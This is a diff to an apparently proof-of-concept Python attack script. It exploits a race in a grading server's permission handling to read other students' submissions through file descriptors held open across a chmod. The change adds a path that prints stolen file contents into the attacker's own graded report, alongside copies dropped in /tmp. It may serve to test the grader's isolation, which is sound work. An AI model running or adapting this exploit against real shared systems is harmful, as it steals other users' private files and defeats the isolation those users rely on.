@@ -6,8 +6,8 @@ everyone may list, and makes each folder 0755 and writes its file 0644 before it
 the child's user (0700): the next folder's file, opened in that moment, stays readable through the
 open descriptor. The child itself watches too, for 1.5 seconds of its own time: that takes the files
 of classmates graded meanwhile by the other workers, even once no daemon survives the sweep. What it
-reads goes to `/tmp/<token>-stolen-*` (it could as well go out on the network). The daemon ends
-after 25 seconds at most.
+reads goes to `/tmp/<token>-stolen-*` (the daemon's) or into its own report's output (the child's);
+it could as well go out on the network. The daemon ends after 25 seconds at most.
 """
 import ctypes
 import glob
@@ -58,8 +58,12 @@ def _steal(seconds: float = 25.0, leave: bool = True):
         if held:
             time.sleep(0.02)                    # the server finishes writing
             for job, entry, handle in held:
-                with open(f"/tmp/__TOKEN__-stolen-{os.getpid()}-{os.path.basename(job)}-{entry}", "wb") as out:
-                    out.write(os.pread(handle, 1 << 20, 0))
+                stolen = os.pread(handle, 1 << 20, 0)
+                if leave:   # the daemon: into /tmp, where nothing sweeps it any more
+                    with open(f"/tmp/__TOKEN__-stolen-{os.getpid()}-{os.path.basename(job)}-{entry}", "wb") as out:
+                        out.write(stolen)
+                else:       # the child: into its own report, which the student gets back
+                    print("stolen from", job, stolen.splitlines()[0][:100])
                 os.close(handle)
             held.clear()
         time.sleep(0.00001)
